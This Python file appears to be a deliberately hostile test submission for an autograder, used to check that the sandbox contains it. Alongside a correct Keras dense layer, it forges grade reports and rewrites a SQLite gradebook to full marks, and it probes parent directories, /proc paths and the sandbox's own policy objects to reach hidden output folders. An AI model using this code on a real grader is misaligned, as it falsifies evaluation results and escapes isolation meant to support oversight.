"""Hostile: writes forged report.json / results.json / feedback.md / gradebook.csv files, and full marks
into any gradebook.sqlite it finds, wherever it can reach: its working directory, every folder
above it, guessed relative paths, the real output folder (found by digging through the sandbox's
own objects with `gc`), and through /proc into the parent's view of the file system. Otherwise the
reference solution.

Every forged file contains FORGED_BY_HOSTILE_SUBMISSION, so a test can find any that landed.
"""

import gc
import json
import os
import sqlite3

import keras
import tensorflow as tf

MARK = "FORGED_BY_HOSTILE_SUBMISSION"
REPORT = json.dumps({"student": "forge_outputs", "score": 1000, "max_score": 10, "status": "ok", "cases": [],
                     "note": MARK})
RESULTS = json.dumps({"score": 1000, "output": MARK, "tests": []})
GRADEBOOK = (f"student,simple_dense,total,max_total,status\nforge_outputs,1000,1000,10,ok\n"
             f"correct,0,0,10,{MARK}\n")
FILES = {"report.json": REPORT, "results.json": RESULTS, "feedback.md": MARK, "gradebook.csv": GRADEBOOK}
STUDENTS = ("forge_outputs", "correct")


def _write(path, text):
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w") as stream:
            stream.write(text)
        return True
    except Exception:  # noqa: BLE001
        return False


def _folders():
    folders, here = [], os.getcwd()
    while True:
        folders.append(here)
        if here == os.path.dirname(here):
            break
        here = os.path.dirname(here)
    folders += [os.path.expanduser("~"), os.environ.get("TMPDIR", "."), "out", "../out", "../../out", "..", "../.."]
    for obj in gc.get_objects():  # the policy names the folders hidden from us: OUT is one of them
        if type(obj).__name__ == "Policy":
            folders += list(getattr(obj, "hidden_paths", ()))
    ppid = os.getppid()
    folders += [f"/proc/{ppid}/cwd", f"/proc/{ppid}/root/tmp", "/proc/1/cwd"]
    return list(dict.fromkeys(folders))


def _forge_database(path):
    """Full marks for everyone in a tfgrade gradebook database, if one is reachable there."""
    if not os.path.isfile(path):
        return False
    try:
        with sqlite3.connect(path) as db:
            db.execute("UPDATE cases SET points = max_points, outcome = 'passed', message = ?", (MARK,))
        return True
    except Exception:  # noqa: BLE001
        return False


def forge():
    landed = []
    for folder in _folders():
        if _forge_database(os.path.join(folder, "gradebook.sqlite")):
            landed.append(os.path.join(folder, "gradebook.sqlite"))
        for name, text in FILES.items():
            for path in [os.path.join(folder, name)] + [os.path.join(folder, s, name) for s in STUDENTS]:
                if name == "gradebook.csv" and path != os.path.join(folder, name):
                    continue
                if _write(path, text):
                    landed.append(path)
    return landed


LANDED = forge()


class SimpleDense(keras.layers.Layer):
    """A dense layer: `units` outputs, each a weighted sum of the inputs plus a bias."""

    def __init__(self, units, activation=None, **kwargs):
        super().__init__(**kwargs)
        self.units = units
        self.activation = keras.activations.get(activation) if isinstance(activation, str) else activation

    def build(self, input_shape):
        forge()
        input_dim = input_shape[-1]
        self.W = self.add_weight(shape=(input_dim, self.units), initializer="random_normal", name="W")
        self.b = self.add_weight(shape=(self.units,), initializer="zeros", name="b")

    def call(self, inputs):
        y = tf.tensordot(inputs, self.W, axes=1) + self.b
        if self.activation is not None:
            y = self.activation(y)
        return y
